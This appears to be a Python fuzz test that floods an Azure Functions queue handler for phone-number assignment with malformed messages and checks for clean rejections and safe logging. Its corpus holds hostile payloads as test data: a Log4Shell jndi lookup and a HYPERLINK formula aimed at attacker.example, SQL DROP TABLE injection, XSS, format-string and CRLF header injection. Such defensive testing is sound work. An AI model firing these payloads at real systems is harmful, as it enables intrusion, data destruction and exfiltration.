"""A hundred thousand messages meant to do harm: each is a request or one rejection, and none raises an exception."""

import base64
import json
import logging
import re
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime
from random import Random
from typing import Any, Final

import hypothesis
from azure.functions.meta import Datum
from azure.functions.queue import QueueMessageInConverter
from azure.storage.queue import QueueMessage
from hypothesis import strategies as st

from assign_number import submission
from assign_number.request import Envelope
from local.host.queue_message import trigger_metadata
from teams_numbers.log import EVENTS as LOG_EVENTS
from tests.reliability.targets import Target, at_least, none
from tests.reliability.world import EVENTS, OPERATIONS, POISON, REQUESTS, LogTap, World

_USER: Final = "6f0b2f8c-90f5-4a0e-9c39-1f0a3f8b6d21"
_GOOD: Final = {"telephoneNumber": "+12065550110", "assignmentTargetId": _USER, "numberType": "callingPlan"}
#: Of all messages, those that hypothesis makes; the others are the corpus and what becomes of it when it is mangled.
_BY_HYPOTHESIS: Final = 0.1
_MOST_BYTES: Final = 64 * 1024
#: What the queue service cannot carry, so that no sender can send it: characters that XML has no word for.
_NO_XML: Final = re.compile(r"[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
#: What may stand in a log line's values: one line of printable text without markup.
_SAFE: Final = re.compile(r"[^\x00-\x1f\x7f-\x9f<>\u2028\u2029\u202a-\u202e\ud800-\udfff]*")


def corpus() -> list[str]:
    """Return messages that have broken other programs, and some good ones to mangle."""
    good = json.dumps(_GOOD)
    wrap = base64.b64encode
    texts = [
        good,
        wrap(good.encode()).decode(),
        wrap(wrap(good.encode())).decode(),
        "\ufeff" + good,
        wrap(b"\xef\xbb\xbf" + good.encode()).decode(),
        *(wrap(good.encode(code)).decode() for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32")),
        "",
        " ",
        "null",
        "[]",
        '""',
        "{}",
        "NaN",
        "0",
        "-" * 1000,
        "[" * 30_000,
        '{"a":' * 10_000,
        '{"context":' + '{"a":' * 5_000 + "1" + "}" * 5_000 + "}",
        "9" * 60_000,
        wrap(b"[" * 40_000).decode(),
        wrap(bytes(range(256))).decode(),
        "<html><script>alert(1)</script></html>",
        '=HYPERLINK("http://attacker.example","x")',
        "${jndi:ldap://attacker.example/a}",
        "'; DROP TABLE users; --",
        "{{7*7}}",
        "%s%s%n",
        "\r\nSet-Cookie: a=b",
        good[:-1],
        good + good,
        good.replace("+1206", "\u202e+1206"),
        "x" * _MOST_BYTES,
    ]
    values: list[Any] = [
        None,
        True,
        0,
        -1,
        1e308,
        "",
        "\x00",
        "\n",
        "\ud800",
        "\udfff\ud800",
        "<b>",
        "=1+1",
        "A" * 5000,
        [],
        {},
        [[]],
        {"a": {}},
    ]
    texts += [json.dumps(_GOOD | {name: value}) for name in (*_GOOD, *_OTHERS) for value in values]
    texts += [good[:-1] + f', "{name}": {value}}}' for name in (*_GOOD, *_OTHERS) for value in _RAW]
    texts += [json.dumps(_GOOD | {"context": {"note": "x" * size}}) for size in (8_000, 8_190, 8_200, 60_000)]
    texts += [
        json.dumps({**_GOOD, key: "x"}) for key in ("__proto__", "constructor", "\u0000", "telephoneNumber ", "é")
    ]
    return [text for text in map(_sendable, texts) if text is not None]


#: Fields that a good message has not, or that the host itself uses.
_OTHERS: Final = (
    *("requestId", "assignmentCategory", "locationId", "dryRun", "context", "delivery", "unknown"),
    *("id", "dequeueCount", "insertionTime", "expirationTime", "nextVisibleTime", "popReceipt", "queueTrigger"),
)
#: Values that a JSON library does not write.
_RAW: Final = (
    *("NaN", "Infinity", "-Infinity", "1e999", "9" * 400, "9" * 5000, '"\\ud800"', "-0", "1E400", "[", "}", "\\u0022"),
    *('"\\u0000"', "[" * 2000 + "]" * 2000, '{"a":1,"a":2}', "0x1", "'x'", '"\\u2028"'),
)


@dataclass(slots=True)
class Found:
    """What came of the messages.

    Attributes:
        messages: how many there were.
        requests: how many were taken for a request.
        rejected: how many ended in one rejection, the text set aside unchanged.
        by_host: how many the host refused before the app saw them: a body that overwrites the trigger's metadata.
        unhandled: exceptions, by type.
        neither: messages that were neither, or both, or more.
        unsafe: log lines with something in them that no log line may hold.
    """

    messages: int = 0
    requests: int = 0
    rejected: int = 0
    by_host: int = 0
    unhandled: Counter[str] = field(default_factory=Counter)
    neither: list[str] = field(default_factory=list)
    unsafe: list[str] = field(default_factory=list)


def run(seed: int, count: int) -> Found:
    """Deliver so many hostile messages."""
    stand = _Stand(seed)
    known = corpus()
    rng = Random(seed)  # noqa: S311 - a simulation
    with LogTap(stand.note, logging.DEBUG):
        for text in known[:count]:
            stand.deliver(text)
        generated = int(count * _BY_HYPOTHESIS)
        if generated:
            _by_hypothesis(stand, seed, generated)
        while stand.found.messages < count:
            if (mangled := _sendable(_mangled(rng, known))) is not None:
                stand.deliver(mangled)
    return stand.found


def targets(found: Found) -> list[Target]:
    """Return the figures."""
    part = "hostile messages:"
    return [
        at_least(f"{part} delivered", found.messages, found.messages),
        none(f"{part} unhandled exceptions", found.unhandled.total()),
        none(f"{part} neither a request nor exactly one rejection", len(found.neither)),
        none(f"{part} log lines that are no JSON or hold something unescaped", len(found.unsafe)),
        at_least(f"{part} rejected, each with one event and the text set aside unchanged", found.rejected, 1),
        at_least(f"{part} taken for requests", found.requests, 1),
    ]


def describe(found: Found) -> str:
    """Return what the table does not say."""
    return (
        f"{found.messages} messages: {found.requests} requests, {found.rejected} rejections, {found.by_host} refused "
        f"by the host; raised: {dict(found.unhandled)}; neither: {found.neither[:3]}; unsafe lines: {found.unsafe[:3]}"
    )


class _Stand:
    """The app, and a judge of what it does with one message."""

    def __init__(self, seed: int) -> None:
        self.found = Found()
        self._world = World(seed, GRAPH_REQUESTS_PER_SECOND=10_000)
        self._world.queues.create_queue(POISON[0])

    def note(self, line: str) -> None:
        """Judge a log line."""
        try:
            said = json.loads(line)
        except ValueError:
            self.found.unsafe.append(line[:200])
            return
        fields = {key: value for key, value in said.items() if key != "name"}
        texts = [value for item in fields.values() for value in (item if isinstance(item, list) else [item])]
        if not (set(fields) <= LOG_EVENTS[said["name"]] and all(_SAFE.fullmatch(str(text)) for text in texts)):
            self.found.unsafe.append(line[:200])

    def deliver(self, text: str) -> None:
        """Bring one message to the app as the host would, and judge what comes of it."""
        found = self.found
        found.messages += 1
        envelope = self._envelope(text)
        if envelope is None:
            found.by_host += 1
            return
        try:
            submission.handle(envelope, self._world.services)
        except Exception as error:  # noqa: BLE001 - that is what is counted
            found.unhandled[type(error).__name__] += 1
        ends = [json.loads(event)["type"].rpartition(".")[2] for event in self._world.drained(EVENTS)]
        aside = self._world.drained(POISON[0])
        onward = len(self._world.drained(OPERATIONS)) + len(self._world.drained(REQUESTS))
        if ends == ["Rejected"] and aside == [envelope.text] and not onward:
            found.rejected += 1
        elif len(ends) + onward == 1 and not aside:
            found.requests += 1
        else:
            found.neither.append(text[:200])

    def _envelope(self, text: str) -> Envelope | None:
        """Return what the function gets, by Microsoft's own decoder; None where that refuses the message."""
        now = datetime.now(UTC)
        stored = QueueMessage(text, id="message-1", pop_receipt="x", dequeue_count=1, inserted_on=now, expires_on=now)
        stored.next_visible_on = now
        metadata = {name: Datum(value.data, value.kind) for name, value in trigger_metadata(stored, text).items()}
        try:
            message = QueueMessageInConverter.decode(Datum(text, "string"), trigger_metadata=metadata)
        except Exception:  # noqa: BLE001 - the real host counts it as a failed run, and its poison queue gets the text
            return None
        return Envelope(
            text=message.get_body().decode(errors="replace"),
            message_id=message.id or "",
            deliveries=message.dequeue_count or 1,
            inserted_at=message.insertion_time or now,
        )


def _by_hypothesis(stand: _Stand, seed: int, count: int) -> None:
    anything = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=20), inner, max_size=4),
        max_leaves=12,
    )
    names = st.sampled_from([*_GOOD, *_OTHERS]) | st.text(max_size=20)
    changed = st.dictionaries(names, anything, max_size=4).map(lambda fields: json.dumps(_GOOD | fields))
    texts = st.text(max_size=200) | anything.map(json.dumps) | changed
    coded = st.tuples(texts, st.sampled_from(["utf-8", "utf-16", "utf-32"])).map(
        lambda pair: base64.b64encode(pair[0].encode(pair[1], "surrogatepass")).decode()
    )
    noise = st.binary(max_size=200).map(lambda content: base64.b64encode(content).decode())

    @hypothesis.seed(seed)
    @hypothesis.settings(
        max_examples=count, database=None, deadline=None, suppress_health_check=list(hypothesis.HealthCheck)
    )
    @hypothesis.given(texts | coded | noise)
    def each(text: str) -> None:
        sendable = _sendable(text)
        if sendable is not None:
            stand.deliver(sendable)

    each()


def _mangled(rng: Random, known: list[str]) -> str:
    """Return a message of the corpus with some of it cut, doubled, exchanged or replaced."""
    text = rng.choice(known)
    for _ in range(rng.randint(1, 4)):
        start = rng.randrange(len(text) + 1)
        end = min(len(text), start + rng.choice([0, 1, 1, 3, 20]))
        piece = rng.choice(
            ["", "\\", '"', "{", "}", "[", ",", ":", "\u0000", "\u202e", "é", "\ud83d", text[start:end] * 2]
        )
        text = text[:start] + piece + text[end:]
    return base64.b64encode(text.encode("utf-8", "surrogatepass")).decode() if rng.random() < 0.2 else text


def _sendable(text: str) -> str | None:
    """Return the text as far as the queue service carries it; None where it is too long."""
    text = _NO_XML.sub("", text)
    return text if len(text.encode()) <= _MOST_BYTES else None
